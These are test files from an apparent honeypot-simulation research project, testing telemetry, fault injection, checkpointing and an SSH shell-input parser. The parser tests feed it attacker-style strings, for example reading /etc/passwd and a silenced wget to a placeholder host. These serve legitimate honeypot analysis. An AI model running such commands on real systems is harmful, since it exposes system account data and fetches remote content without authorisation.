        registry = telemetry.enable()
        with telemetry.span("outer"):
            with telemetry.span("inner"):
                pass
            with telemetry.span("inner"):
                pass
        assert registry.spans["outer"].count == 1
        assert registry.spans["outer/inner"].count == 2
        assert registry._span_stack == []

    def test_exception_still_recorded_and_stack_popped(self):
        registry = telemetry.enable()
        with pytest.raises(RuntimeError):
            with telemetry.span("boom"):
                raise RuntimeError("x")
        assert registry.spans["boom"].count == 1
        assert registry._span_stack == []

    def test_span_stats_merge(self):
        a = SpanStats()
        a.record(1.0)
        b = SpanStats()
        b.record(3.0)
        a.merge(b)
        assert a.count == 2
        assert a.total_s == pytest.approx(4.0)
        assert (a.min_s, a.max_s) == (1.0, 3.0)


class TestDisabled:
    def test_helpers_are_no_ops(self):
        assert telemetry.active() is None
        telemetry.count("x")
        telemetry.gauge("g", 1.0)
        telemetry.observe("h", 1)
        assert telemetry.span("s") is NULL_SPAN
        assert telemetry.profile("p") is NULL_SPAN
        assert telemetry.active() is None

    def test_collecting_restores_previous_state(self):
        outer = telemetry.enable()
        with telemetry.collecting() as inner:
            assert telemetry.active() is inner
            assert inner is not outer
        assert telemetry.active() is outer

    def test_profile_requires_both_opt_ins(self):
        telemetry.enable(profile=False)
        assert telemetry.profile("stage") is NULL_SPAN
        registry = telemetry.enable(profile=True)
        with telemetry.profile("stage"):
            sum(range(100))
        assert "stage" in registry.profiles
        assert "cumulative" in registry.profiles["stage"]

    def test_nested_profile_degrades_to_outer_capture(self):
        registry = telemetry.enable(profile=True)
        with telemetry.profile("outer"):
            with telemetry.profile("inner"):
                pass
        assert "outer" in registry.profiles
        assert "inner" not in registry.profiles


class TestComparableView:
    def test_filters_engine_prefixes_and_timings(self):
        registry = MetricsRegistry()
        registry.count("sim.days", 3)
        registry.count("parallel.shards", 2)
        registry.count("collector.absorb.batches", 2)
        registry.count("checkpoint.saves", 1)
        registry.gauge("parallel.workers", 2)
        registry.observe("sim.sessions_per_day", 10)
        registry.record_span("sim.run", 1.0)
        view = telemetry.comparable_view(registry.export())
        assert view["counters"] == {"sim.days": 3}
        assert list(view["histograms"]) == ["sim.sessions_per_day"]
        assert set(view) == {"counters", "histograms"}


class TestReport:
    def test_document_has_version_and_meta(self):
        registry = MetricsRegistry()
        registry.count("c")
        document = telemetry_document(registry, meta={"seed": 7})
        assert document["version"] == TELEMETRY_VERSION
        assert document["meta"] == {"seed": 7}
        assert document["counters"] == {"c": 1}

    def test_markdown_sections(self):
        registry = MetricsRegistry()
        registry.count("sim.days", 2)
        registry.observe("h", 1)
        registry.record_span("sim.run", 0.5)
        report = run_report_markdown(telemetry_document(registry))
        assert report.startswith("# Telemetry run report")
        assert "sim.days" in report
        assert "## Spans" in report

    def test_empty_registry_renders(self):
        report = run_report_markdown(telemetry_document(MetricsRegistry()))
        assert "(none)" in report


# ----------------------------------------------------------------------
# differential suite: telemetry is strictly observational
# ----------------------------------------------------------------------

class TestObservational:
    def test_default_config_digest_with_telemetry_on(self):
        """ISSUE acceptance: the golden digest survives instrumentation."""
        with telemetry.collecting() as registry:
            result = run_simulation(DEFAULT_CONFIG)
        assert result.database.digest() == GOLDEN_DEFAULT_DIGEST
        assert registry.counters["sim.days"] == (
            (DEFAULT_CONFIG.end - DEFAULT_CONFIG.start).days + 1
        )

    @pytest.mark.parametrize("profile", PROFILES)
    def test_on_equals_off_per_profile(self, serial_baselines, profile):
        """The serial baselines ran with telemetry off; rerunning with a
        registry active must reproduce them byte for byte."""
        baseline = serial_baselines[profile]
        with telemetry.collecting():
            result = run_simulation(short_fault_config(profile))
        assert result.database.digest() == baseline.database.digest()
        assert result.collector.accounting() == (
            baseline.collector.accounting()
        )

    def test_config_fingerprint_ignores_telemetry_state(self):
        from repro.faults.checkpoint import config_fingerprint

        config = short_fault_config("paper")
        off = config_fingerprint(config)
        with telemetry.collecting():
            on = config_fingerprint(config)
        assert on == off


def _comparable(registry) -> dict:
    return telemetry.comparable_view(registry.export())


def _assert_comparable_equal(parallel_view: dict, serial_view: dict) -> None:
    assert parallel_view["counters"] == serial_view["counters"]
    assert set(parallel_view["histograms"]) == set(serial_view["histograms"])
    for name, serial_data in serial_view["histograms"].items():
        parallel_data = parallel_view["histograms"][name]
        # Bucket counts are integer sums → exact; the running sum is a
        # float fold, equal only up to summation order.
        assert parallel_data["counts"] == serial_data["counts"]
        assert parallel_data["count"] == serial_data["count"]
        assert parallel_data["sum"] == pytest.approx(serial_data["sum"])
        assert parallel_data["min"] == serial_data["min"]
        assert parallel_data["max"] == serial_data["max"]


@pytest.mark.parallel
class TestMergeEquivalence:
    """Sharded telemetry merged in shard order ≡ serial telemetry."""

    @pytest.fixture(scope="class")
    def serial_registries(self):
        registries = {}
        for profile in PROFILES:
            with telemetry.collecting() as registry:
                run_simulation(short_fault_config(profile))
            registries[profile] = registry
        return registries

    @pytest.mark.parametrize("profile", PROFILES)
    @pytest.mark.parametrize("workers", [2, 4])
    def test_counters_and_histograms_match_serial(
        self, serial_registries, profile, workers
    ):
        with telemetry.collecting() as registry:
            run_simulation(short_fault_config(profile), workers=workers)
        _assert_comparable_equal(
            _comparable(registry), _comparable(serial_registries[profile])
        )

    def test_worker_spans_align_with_serial_paths(self, serial_registries):
        config = short_fault_config("paper")
        n_days = (config.end - config.start).days + 1
        with telemetry.collecting() as registry:
            run_simulation(config, workers=2)
        assert registry.spans["sim.run/sim.day"].count == n_days
        assert serial_registries["paper"].spans["sim.run/sim.day"].count == (
            n_days
        )
        assert registry.counters["parallel.shards"] >= 2
        assert registry.gauges["parallel.workers"] == 2

    def test_parallel_run_without_telemetry_ships_no_exports(self):
        # telemetry off in the parent → workers must not collect either.
        result = run_simulation(short_fault_config("none"), workers=2)
        assert telemetry.active() is None
        assert result.database.digest()


class TestCliTelemetry:
    @pytest.fixture(autouse=True)
    def _primed_cache(self, dataset):
        """Re-seed the dataset cache from the session fixture so the
        CLI commands exercise only the wiring, not a fresh run (other
        tests may have cleared the cache in between)."""
        from repro.experiments import dataset as dataset_module

        dataset_module._CACHE.setdefault(
            dataset_module._cache_key(DEFAULT_CONFIG), dataset
        )

    def test_flag_writes_document(self, tmp_path, capsys):
        from repro.cli import main

        path = tmp_path / "tele.json"
        assert main(["stats", "--telemetry", str(path)]) == 0
        document = json.loads(path.read_text())
        assert document["version"] == TELEMETRY_VERSION
        assert document["meta"]["command"] == "stats"
        assert document["counters"].get("dataset.cache_hits") == 1
        assert telemetry.active() is None

    def test_subcommand_prints_report(self, tmp_path, capsys):
        from repro.cli import main

        path = tmp_path / "tele.json"
        assert main(["telemetry", "--json", str(path)]) == 0
        out = capsys.readouterr().out
        assert "# Telemetry run report" in out
        assert "## Counters" in out
        document = json.loads(path.read_text())
        assert document["meta"]["command"] == "telemetry"

    def test_no_flag_collects_nothing(self, capsys):
        from repro.cli import main

        assert main(["stats"]) == 0
        assert telemetry.active() is None
