"""Configuration validation and the dataset builder."""

from __future__ import annotations

from datetime import date

import pytest

from repro.config import DEFAULT_CONFIG, PAPER, SimulationConfig
from repro.experiments.dataset import build_dataset, clear_cache


class TestSimulationConfig:
    def test_defaults(self):
        assert DEFAULT_CONFIG.n_honeypots == 221
        assert DEFAULT_CONFIG.start == date(2021, 12, 1)
        assert DEFAULT_CONFIG.end == date(2024, 8, 31)

    def test_scale_validation(self):
        with pytest.raises(ValueError):
            SimulationConfig(scale=0)
        with pytest.raises(ValueError):
            SimulationConfig(scale=-1)

    def test_window_validation(self):
        with pytest.raises(ValueError):
            SimulationConfig(start=date(2023, 1, 1), end=date(2022, 1, 1))

    def test_honeypot_validation(self):
        with pytest.raises(ValueError):
            SimulationConfig(n_honeypots=0)

    def test_scaled(self):
        config = SimulationConfig(scale=1e-3)
        assert config.scaled(1_000_000) == 1000

    def test_replace(self):
        config = DEFAULT_CONFIG.replace(seed=99)
        assert config.seed == 99
        assert config.scale == DEFAULT_CONFIG.scale

    def test_paper_numbers_sane(self):
        assert PAPER.ssh_sessions < PAPER.total_sessions
        assert (
            PAPER.scanning_sessions
            + PAPER.scouting_sessions
            + PAPER.intrusion_sessions
            + PAPER.command_sessions
            <= PAPER.total_sessions
        )
        assert PAPER.non_state_sessions + PAPER.state_sessions == PAPER.command_sessions


class TestDatasetBuilder:
    def test_cache_returns_same_object(self):
        config = SimulationConfig(
            seed=76, scale=1e-4, start=date(2022, 6, 1), end=date(2022, 6, 3)
        )
        assert build_dataset(config) is build_dataset(config)

    def test_cache_bypass(self):
        config = SimulationConfig(
            seed=77, scale=1e-4, start=date(2022, 6, 1), end=date(2022, 6, 5)
        )
        a = build_dataset(config, use_cache=False)
        b = build_dataset(config, use_cache=False)
        assert a is not b
        assert len(a.database) == len(b.database)

    def test_clear_cache(self):
        config = SimulationConfig(
            seed=78, scale=1e-4, start=date(2022, 6, 1), end=date(2022, 6, 3)
        )
        a = build_dataset(config)
        clear_cache()
        b = build_dataset(config)
        assert a is not b

    def test_clustering_cached(self, dataset):
        assert dataset.clustering() is dataset.clustering()

    def test_dataset_accessors(self, dataset):
        assert dataset.config is DEFAULT_CONFIG
        assert dataset.database is dataset.simulation.database
        assert dataset.whois is dataset.simulation.whois
