"""Shared fixtures: one simulated dataset per test session.

The default-scale dataset takes a few seconds to build, so it is built
once and shared; tests must treat it as read-only.  The same goes for
the per-fault-profile serial baselines (``serial_baselines``) the
differential suites compare against.
"""

from __future__ import annotations

import asyncio
import inspect
from datetime import date

import pytest

from repro.attackers.orchestrator import run_simulation
from repro.config import DEFAULT_CONFIG, SimulationConfig
from repro.experiments.dataset import Dataset, build_dataset
from repro.experiments.runner import load_all_experiments
from repro.faults.plan import FaultProfile

#: SHA-256 of the default-config dataset produced by the pipeline
#: *before* the fault subsystem existed (13429 sessions, 29 dropped).
#: The default paper profile must keep reproducing exactly this.
GOLDEN_DEFAULT_DIGEST = (
    "9fa2ad596597cbad5973236559d44b6cd438500551e43cdc9d89373df31f9ae8"
)

#: A five-week window straddling the paper's October 2023 outage —
#: short enough for per-test runs, long enough to exercise the outage.
SHORT_WINDOW = dict(start=date(2023, 9, 15), end=date(2023, 10, 20))

#: Every named fault profile (the differential suites sweep all three).
PROFILES = ("none", "paper", "stress")


@pytest.hookimpl(tryfirst=True)
def pytest_pyfunc_call(pyfuncitem):
    """Event-loop policy for async tests: one fresh loop per test.

    The service suite's coroutine tests run here, on a loop created for
    the test and closed (and deregistered) immediately after — no loop
    ever leaks into the synchronous tier-1 tests, and the suite does not
    depend on pytest-asyncio being importable (it is pinned in the dev
    extras for environments that have it, but this hook takes
    precedence either way).
    """
    function = pyfuncitem.obj
    if not inspect.iscoroutinefunction(function):
        return None
    kwargs = {
        name: pyfuncitem.funcargs[name]
        for name in pyfuncitem._fixtureinfo.argnames
    }
    loop = asyncio.new_event_loop()
    try:
        loop.run_until_complete(function(**kwargs))
    finally:
        loop.close()
        asyncio.set_event_loop(None)
    return True


def make_record(
    start: float,
    session_id: str = "s-1",
    honeypot_id: str = "hp-000",
):
    """A minimal valid session record for collector/transport tests."""
    from repro.honeypot.session import Protocol, SessionRecord

    return SessionRecord(
        session_id=session_id,
        honeypot_id=honeypot_id,
        honeypot_ip="192.0.2.1",
        honeypot_port=22,
        protocol=Protocol.SSH,
        client_ip="1.1.1.1",
        client_port=40000,
        start=start,
        end=start + 5,
    )


def short_fault_config(profile: str) -> SimulationConfig:
    """The SHORT_WINDOW config the differential suites run under."""
    return SimulationConfig(
        seed=33,
        scale=1e-4,
        faults=FaultProfile.from_name(profile),
        **SHORT_WINDOW,
    )


@pytest.fixture(scope="session")
def serial_baselines():
    """One serial reference run per fault profile (shared, read-only)."""
    return {
        profile: run_simulation(short_fault_config(profile))
        for profile in PROFILES
    }


@pytest.fixture(scope="session")
def tiny_result():
    """A three-week moderate-density run (shared, read-only)."""
    config = SimulationConfig(
        seed=21, scale=2e-4, start=date(2022, 3, 1), end=date(2022, 3, 21)
    )
    return run_simulation(config)


@pytest.fixture(scope="session")
def dataset() -> Dataset:
    """The full-window default-scale dataset (shared, read-only)."""
    return build_dataset(DEFAULT_CONFIG)


@pytest.fixture(scope="session")
def results(dataset):
    """All experiment results over the shared dataset."""
    from repro.experiments.base import REGISTRY, get_experiment

    load_all_experiments()
    return {eid: get_experiment(eid).run(dataset) for eid in REGISTRY}


@pytest.fixture(scope="session")
def short_config() -> SimulationConfig:
    """A three-month window at higher density (fast, denser days)."""
    from datetime import date

    return SimulationConfig(
        seed=11,
        scale=1e-4,
        start=date(2022, 2, 1),
        end=date(2022, 4, 30),
    )


@pytest.fixture(scope="session")
def short_dataset(short_config) -> Dataset:
    return build_dataset(short_config)
