"""Shared fixtures: one simulated dataset per test session.

The default-scale dataset takes a few seconds to build, so it is built
once and shared; tests must treat it as read-only.
"""

from __future__ import annotations

import pytest

from repro.config import DEFAULT_CONFIG, SimulationConfig
from repro.experiments.dataset import Dataset, build_dataset
from repro.experiments.runner import load_all_experiments


@pytest.fixture(scope="session")
def dataset() -> Dataset:
    """The full-window default-scale dataset (shared, read-only)."""
    return build_dataset(DEFAULT_CONFIG)


@pytest.fixture(scope="session")
def results(dataset):
    """All experiment results over the shared dataset."""
    from repro.experiments.base import REGISTRY, get_experiment

    load_all_experiments()
    return {eid: get_experiment(eid).run(dataset) for eid in REGISTRY}


@pytest.fixture(scope="session")
def short_config() -> SimulationConfig:
    """A three-month window at higher density (fast, denser days)."""
    from datetime import date

    return SimulationConfig(
        seed=11,
        scale=1e-4,
        start=date(2022, 2, 1),
        end=date(2022, 4, 30),
    )


@pytest.fixture(scope="session")
def short_dataset(short_config) -> Dataset:
    return build_dataset(short_config)
