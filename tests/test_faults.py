"""Fault-injection substrate: plan, transport, checkpoint, coverage.

The two load-bearing guarantees:

* ``FaultProfile.paper()`` (the default) reproduces the pre-fault-model
  pipeline **byte for byte** — the golden digest below was captured from
  the seed pipeline before ``repro.faults`` existed.
* Under ``FaultProfile.stress()`` the collector's conservation law
  holds, coverage reporting reflects every injected gap, and the
  paper's headline distributional findings survive.
"""

from __future__ import annotations

from datetime import date

import pytest

from repro.analysis.categories import SessionCategory, category_counts
from repro.analysis.classify import DEFAULT_CLASSIFIER
from repro.analysis.monthly import monthly_groups, overall_shares
from repro.analysis.statechange import StateClass, state_class
from repro.attackers.orchestrator import run_simulation
from repro.config import DEFAULT_CONFIG, SimulationConfig
from repro.experiments.dataset import build_dataset
from repro.faults.checkpoint import (
    CheckpointError,
    load_checkpoint,
    save_checkpoint,
)
from repro.faults.coverage import (
    CoverageError,
    build_coverage_report,
    validate_coverage,
)
from repro.faults.plan import (
    FaultProfile,
    OutageWindow,
    TransportFaults,
    compile_fault_plan,
)
from repro.faults.transport import (
    DirectChannel,
    ResilientChannel,
    RetryPolicy,
    build_channel,
)
from repro.honeynet.collector import Collector
from repro.util.rng import RngTree
from repro.util.timeutils import to_epoch
from tests.conftest import GOLDEN_DEFAULT_DIGEST, SHORT_WINDOW, make_record


class TestFaultProfile:
    def test_named_profiles(self):
        assert FaultProfile.from_name("paper") == FaultProfile.paper()
        assert FaultProfile.from_name("none").outages == ()
        assert FaultProfile.from_name("stress").has_churn

    def test_unknown_name_rejected(self):
        with pytest.raises(ValueError, match="unknown fault profile"):
            FaultProfile.from_name("chaos-monkey")

    def test_paper_profile_is_default_and_lossless(self):
        config = SimulationConfig()
        assert config.faults == FaultProfile.paper()
        assert config.faults.transport.lossless
        assert not config.faults.has_churn

    def test_transport_validation(self):
        with pytest.raises(ValueError, match="failure_probability"):
            TransportFaults(failure_probability=1.5)
        with pytest.raises(ValueError, match="max_attempts"):
            TransportFaults(max_attempts=0)
        with pytest.raises(ValueError, match="combined"):
            TransportFaults(
                failure_probability=0.6, corruption_probability=0.5
            )

    def test_outage_window_validation(self):
        with pytest.raises(ValueError, match="outage start"):
            OutageWindow(date(2023, 2, 2), date(2023, 2, 1))


class TestFaultPlan:
    def test_deterministic_compilation(self):
        profile = FaultProfile.stress()
        ids = [f"hp-{i:03d}" for i in range(30)]
        tree = RngTree(7).child("faults")
        a = compile_fault_plan(profile, ids, date(2022, 1, 1), date(2022, 12, 31), tree)
        b = compile_fault_plan(profile, ids, date(2022, 1, 1), date(2022, 12, 31), tree)
        assert a.sensor_down_days == b.sensor_down_days
        assert a.downtimes == b.downtimes

    def test_no_churn_without_crash_rate(self):
        plan = compile_fault_plan(
            FaultProfile.paper(),
            ["hp-000"],
            date(2022, 1, 1),
            date(2022, 12, 31),
            RngTree(7),
        )
        assert plan.sensor_down_days == frozenset()
        assert plan.outage_days == 0  # Oct 2023 outage outside this window

    def test_downtimes_stay_inside_window(self):
        start, end = date(2022, 1, 1), date(2022, 6, 30)
        plan = compile_fault_plan(
            FaultProfile.stress(),
            [f"hp-{i:03d}" for i in range(50)],
            start,
            end,
            RngTree(3),
        )
        assert plan.downtimes  # 50 sensors × ~1/year ⇒ ≫0 in expectation
        for downtime in plan.downtimes:
            assert start <= downtime.start <= downtime.end <= end


class TestCollectorAccounting:
    def test_dedup_by_session_id(self):
        collector = Collector()
        record = make_record(to_epoch(date(2022, 5, 1)))
        assert collector.ingest(record)
        assert not collector.ingest(record)
        assert collector.deduplicated == 1
        assert len(collector.sessions) == 1
        assert collector.accounting_balanced()

    def test_sensor_down_drop(self):
        day = date(2022, 5, 1)
        collector = Collector(
            sensor_down_days=frozenset({("hp-000", day.toordinal())})
        )
        assert not collector.ingest(make_record(to_epoch(day)))
        assert collector.dropped_sensor_down == 1
        assert collector.dropped == 1
        other = make_record(to_epoch(day), session_id="s-2", honeypot_id="hp-001")
        assert collector.ingest(other)
        assert collector.accounting_balanced()

    def test_ingest_many_accepts_any_iterable(self):
        collector = Collector()
        stored = collector.ingest_many(
            make_record(to_epoch(date(2022, 5, 1), i), session_id=f"s-{i}")
            for i in range(3)
        )
        assert stored == 3
        assert collector.generated == 3

    def test_outage_precomputed_as_ordinals(self):
        collector = Collector(
            outages=(OutageWindow(date(2022, 1, 1), date(2022, 1, 2)),)
        )
        assert collector._outage_ordinals == (
            (date(2022, 1, 1).toordinal(), date(2022, 1, 2).toordinal()),
        )
        assert not collector.ingest(make_record(to_epoch(date(2022, 1, 2))))
        assert collector.dropped_outage == 1


class TestTransport:
    def fresh(self, **faults):
        collector = Collector(outages=())
        channel = build_channel(
            collector, TransportFaults(**faults), RngTree(5).child("t")
        )
        return collector, channel

    def test_lossless_uses_direct_channel(self):
        collector, channel = self.fresh()
        assert isinstance(channel, DirectChannel)
        assert channel.deliver(make_record(to_epoch(date(2022, 5, 1))))
        assert collector.accounting_balanced()

    def test_faulty_uses_resilient_channel(self):
        _, channel = self.fresh(failure_probability=0.1, max_attempts=3)
        assert isinstance(channel, ResilientChannel)

    def test_dead_letter_after_exhausted_attempts(self):
        collector, channel = self.fresh(
            failure_probability=0.95, max_attempts=2
        )
        for index in range(200):
            channel.deliver(
                make_record(
                    to_epoch(date(2022, 5, 1), index), session_id=f"s-{index}"
                )
            )
        assert collector.dead_lettered > 0
        assert collector.dead_letters
        assert collector.retried > 0
        assert collector.accounting_balanced()

    def test_duplicates_are_deduplicated(self):
        collector, channel = self.fresh(duplicate_probability=0.5)
        for index in range(200):
            channel.deliver(
                make_record(
                    to_epoch(date(2022, 5, 1), index), session_id=f"s-{index}"
                )
            )
        assert collector.deduplicated > 0
        assert len(collector.sessions) == 200
        assert collector.accounting_balanced()

    def test_delivery_deterministic_per_record(self):
        outcomes = []
        for _ in range(2):
            collector, channel = self.fresh(
                failure_probability=0.5, max_attempts=2
            )
            for index in range(100):
                channel.deliver(
                    make_record(
                        to_epoch(date(2022, 5, 1), index),
                        session_id=f"s-{index}",
                    )
                )
            outcomes.append(collector.accounting())
        assert outcomes[0] == outcomes[1]

    def test_backoff_grows_and_caps(self):
        policy = RetryPolicy(max_attempts=8, base_s=1.0, cap_s=4.0, jitter=0.0)
        rng = RngTree(1).rand()
        delays = [policy.backoff_s(attempt, rng) for attempt in range(1, 6)]
        assert delays == [1.0, 2.0, 4.0, 4.0, 4.0]


class TestPaperEquivalence:
    def test_default_dataset_matches_pre_fault_digest(self, dataset):
        """The tentpole guarantee: faults off ⇒ bit-identical dataset."""
        assert dataset.config.faults == FaultProfile.paper()
        assert dataset.database.digest() == GOLDEN_DEFAULT_DIGEST

    def test_paper_accounting_matches_legacy_counters(self, dataset):
        collector = dataset.simulation.collector
        accounting = collector.accounting()
        assert accounting["dropped_sensor_down"] == 0
        assert accounting["retried"] == 0
        assert accounting["deduplicated"] == 0
        assert accounting["dead_lettered"] == 0
        assert collector.generated == len(collector.sessions) + collector.dropped
        assert collector.accounting_balanced()

    def test_paper_coverage_flags_only_october_2023(self, dataset):
        coverage = dataset.coverage
        assert coverage.gap_months() == ["2023-10"]
        assert coverage.months["2023-10"].fraction == pytest.approx(
            29 / 31, rel=1e-9
        )
        assert dataset.coverage_notes() == [
            "coverage gaps: 2023-10 (93.5% sensor-days)"
        ]


class TestCheckpointResume:
    def config(self, faults=None):
        return SimulationConfig(
            seed=33,
            scale=1e-4,
            faults=faults or FaultProfile.paper(),
            **SHORT_WINDOW,
        )

    @pytest.mark.parametrize("profile", ["paper", "stress"])
    def test_kill_and_resume_is_digest_identical(self, tmp_path, profile):
        config = self.config(FaultProfile.from_name(profile))
        checkpoint = tmp_path / "run.ckpt"
        uninterrupted = run_simulation(config)
        partial = run_simulation(
            config,
            checkpoint_path=checkpoint,
            checkpoint_every_days=7,
            stop_after=date(2023, 10, 2),
        )
        assert len(partial.database) < len(uninterrupted.database)
        resumed = run_simulation(config, checkpoint_path=checkpoint, resume=True)
        assert resumed.database.digest() == uninterrupted.database.digest()
        assert (
            resumed.collector.accounting()
            == uninterrupted.collector.accounting()
        )

    def test_resume_without_file_starts_fresh(self, tmp_path):
        config = self.config()
        result = run_simulation(
            config, checkpoint_path=tmp_path / "missing.ckpt", resume=True
        )
        assert result.database.digest() == run_simulation(config).database.digest()

    def test_resume_requires_checkpoint_path(self):
        with pytest.raises(ValueError, match="checkpoint_path"):
            run_simulation(self.config(), resume=True)

    def test_config_mismatch_rejected(self, tmp_path):
        config = self.config()
        checkpoint = tmp_path / "run.ckpt"
        run_simulation(
            config,
            checkpoint_path=checkpoint,
            checkpoint_every_days=7,
            stop_after=date(2023, 9, 25),
        )
        other = config.replace(seed=34)
        with pytest.raises(CheckpointError, match="different configuration"):
            load_checkpoint(checkpoint, other)

    def test_corrupt_checkpoint_rejected(self, tmp_path):
        path = tmp_path / "bad.ckpt"
        path.write_text("{not json")
        with pytest.raises(CheckpointError, match="unreadable"):
            load_checkpoint(path, self.config())

    def test_save_is_atomic_overwrite(self, tmp_path):
        config = self.config()
        result = run_simulation(config)
        path = tmp_path / "state.ckpt"
        save_checkpoint(
            path, config, config.end, result.honeynet, result.collector
        )
        loaded = load_checkpoint(path, config)
        assert len(loaded.sessions) == len(result.collector.sessions)
        assert not path.with_name(path.name + ".tmp").exists()


@pytest.fixture(scope="module")
def stress_dataset():
    """Full default window under the stress profile."""
    return build_dataset(DEFAULT_CONFIG.replace(faults=FaultProfile.stress()))


class TestStressRobustness:
    """ISSUE acceptance: findings survive a deliberately broken instrument."""

    def test_accounting_invariant(self, stress_dataset):
        collector = stress_dataset.simulation.collector
        assert collector.accounting_balanced()
        accounting = collector.accounting()
        assert accounting["dropped_sensor_down"] > 0
        assert accounting["deduplicated"] > 0
        assert accounting["retried"] > 0

    def test_coverage_reflects_injected_gaps(self, stress_dataset):
        coverage = stress_dataset.coverage
        assert coverage.overall_fraction < 0.995
        gaps = coverage.gap_months(0.97)
        assert "2023-10" in gaps  # paper outage
        assert "2022-06" in gaps  # stress profile's extra outage
        plan = stress_dataset.simulation.plan
        crashed = {downtime.honeypot_id for downtime in plan.downtimes}
        assert any(
            coverage.sensors[honeypot_id] < 1.0 for honeypot_id in crashed
        )

    def test_stress_determinism(self):
        config = SimulationConfig(
            seed=9, scale=1e-4, faults=FaultProfile.stress(), **SHORT_WINDOW
        )
        assert (
            run_simulation(config).database.digest()
            == run_simulation(config).database.digest()
        )

    def test_category_ordering_survives(self, stress_dataset):
        counts = category_counts(stress_dataset.database.ssh_sessions())
        assert counts[SessionCategory.SCOUTING] == max(counts.values())
        assert (
            counts[SessionCategory.COMMAND_EXECUTION]
            > counts[SessionCategory.SCANNING]
        )

    def test_echo_ok_dominance_survives(self, stress_dataset):
        sessions = [
            s
            for s in stress_dataset.database.command_sessions()
            if state_class(s) == StateClass.NON_STATE
        ]
        shares = overall_shares(
            monthly_groups(sessions, DEFAULT_CLASSIFIER.classify)
        )
        assert shares.get("echo_ok", 0.0) > 0.7


class TestCoverageValidation:
    def test_catastrophic_profile_fails_loudly(self):
        profile = FaultProfile(
            name="dark",
            outages=(OutageWindow(date(2023, 9, 1), date(2023, 10, 31)),),
        )
        plan = compile_fault_plan(
            profile, ["hp-000"], date(2023, 9, 1), date(2023, 10, 31), RngTree(1)
        )
        report = build_coverage_report(plan)
        assert report.overall_fraction == 0.0
        with pytest.raises(CoverageError, match="too degraded"):
            validate_coverage(report)

    def test_dark_month_fails_month_floor(self):
        profile = FaultProfile(
            name="halfdark",
            outages=(OutageWindow(date(2023, 9, 1), date(2023, 9, 30)),),
        )
        plan = compile_fault_plan(
            profile, ["hp-000"], date(2023, 8, 1), date(2023, 10, 31), RngTree(1)
        )
        report = build_coverage_report(plan)
        with pytest.raises(CoverageError, match="2023-09"):
            validate_coverage(report)

    def test_paper_profile_passes(self, dataset):
        validate_coverage(dataset.coverage)

    def test_empty_fault_plan_is_full_coverage(self):
        plan = compile_fault_plan(
            FaultProfile.none(),
            ["hp-000", "hp-001"],
            date(2023, 9, 1),
            date(2023, 10, 31),
            RngTree(1),
        )
        report = build_coverage_report(plan)
        assert report.overall_fraction == 1.0
        assert report.gap_months() == []
        assert all(fraction == 1.0 for fraction in report.sensors.values())
        assert report.notes() == []
        validate_coverage(report)  # must not raise

    def test_full_range_outage_is_zero_coverage(self):
        start, end = date(2023, 9, 1), date(2023, 10, 31)
        profile = FaultProfile(
            name="allout", outages=(OutageWindow(start, end),)
        )
        plan = compile_fault_plan(profile, ["hp-000"], start, end, RngTree(1))
        report = build_coverage_report(plan)
        assert report.overall_fraction == 0.0
        assert set(report.gap_months()) == {"2023-09", "2023-10"}
        assert all(fraction == 0.0 for fraction in report.sensors.values())
        with pytest.raises(CoverageError, match="too degraded"):
            validate_coverage(report)

    def test_gaps_exactly_tiling_the_range(self):
        # Two abutting outages that jointly tile the window exactly must
        # account identically to one full-range outage — the boundary
        # day belongs to exactly one window, never both or neither.
        start, end = date(2023, 9, 1), date(2023, 10, 31)
        tiled = FaultProfile(
            name="tiled",
            outages=(
                OutageWindow(start, date(2023, 9, 30)),
                OutageWindow(date(2023, 10, 1), end),
            ),
        )
        plan = compile_fault_plan(tiled, ["hp-000"], start, end, RngTree(1))
        report = build_coverage_report(plan)
        assert report.overall_fraction == 0.0
        total_outage_days = sum(w.days for w in tiled.outages)
        assert total_outage_days == (end - start).days + 1


class TestExperimentAnnotations:
    def test_fig01_carries_gap_annotation(self, results):
        notes = " ".join(results["fig01"].notes)
        assert "coverage gaps: 2023-10" in notes
