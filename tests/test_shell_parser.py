"""Shell-input parser."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.honeypot.shell.parser import ParseError, parse_line


def argvs(line: str) -> list[list[str]]:
    """All stage argvs of all statements, flattened in order."""
    result = []
    for statement in parse_line(line):
        for stage in statement.pipeline.stages:
            result.append(stage.argv)
    return result


class TestBasics:
    def test_single_command(self):
        (statement,) = parse_line("uname -a")
        assert statement.pipeline.stages[0].argv == ["uname", "-a"]

    def test_semicolons(self):
        statements = parse_line("cd /tmp; ls; pwd")
        assert [s.pipeline.stages[0].argv[0] for s in statements] == [
            "cd", "ls", "pwd",
        ]

    def test_connectors_recorded(self):
        statements = parse_line("a && b || c")
        assert [s.connector for s in statements] == [";", "&&", "||"]

    def test_pipeline_stages(self):
        (statement,) = parse_line("cat /etc/passwd | grep root | wc -l")
        names = [stage.argv[0] for stage in statement.pipeline.stages]
        assert names == ["cat", "grep", "wc"]

    def test_empty_line(self):
        assert parse_line("") == []
        assert parse_line("   ") == []

    def test_background_marker(self):
        statements = parse_line("sleep 10 &")
        assert statements[0].pipeline.stages[0].argv == ["sleep", "10"]


class TestQuoting:
    def test_double_quotes_group(self):
        (statement,) = parse_line('echo "hello world"')
        assert statement.pipeline.stages[0].argv == ["echo", "hello world"]

    def test_single_quotes_preserve_specials(self):
        (statement,) = parse_line("echo 'a;b|c'")
        assert statement.pipeline.stages[0].argv == ["echo", "a;b|c"]

    def test_backslash_escape(self):
        (statement,) = parse_line(r"echo a\ b")
        assert statement.pipeline.stages[0].argv == ["echo", "a b"]

    def test_unterminated_quote_raises(self):
        with pytest.raises(ParseError):
            parse_line('echo "unclosed')

    def test_escaped_quote_inside_double(self):
        (statement,) = parse_line('echo "say \\"hi\\""')
        assert "hi" in statement.pipeline.stages[0].argv[1]


class TestRedirects:
    def test_truncate_redirect(self):
        (statement,) = parse_line("echo hi > /tmp/x")
        stage = statement.pipeline.stages[0]
        assert stage.argv == ["echo", "hi"]
        assert stage.redirects[0].op == ">"
        assert stage.redirects[0].target == "/tmp/x"

    def test_append_redirect(self):
        (statement,) = parse_line("echo hi >> /tmp/x")
        assert statement.pipeline.stages[0].redirects[0].op == ">>"

    def test_redirect_without_target(self):
        with pytest.raises(ParseError):
            parse_line("echo hi >")

    def test_stderr_redirect_discarded(self):
        (statement,) = parse_line("wget http://x 2>/dev/null")
        stage = statement.pipeline.stages[0]
        assert stage.argv == ["wget", "http://x"]
        assert stage.redirects == []

    def test_input_redirect_becomes_argument(self):
        (statement,) = parse_line("cat < /etc/passwd")
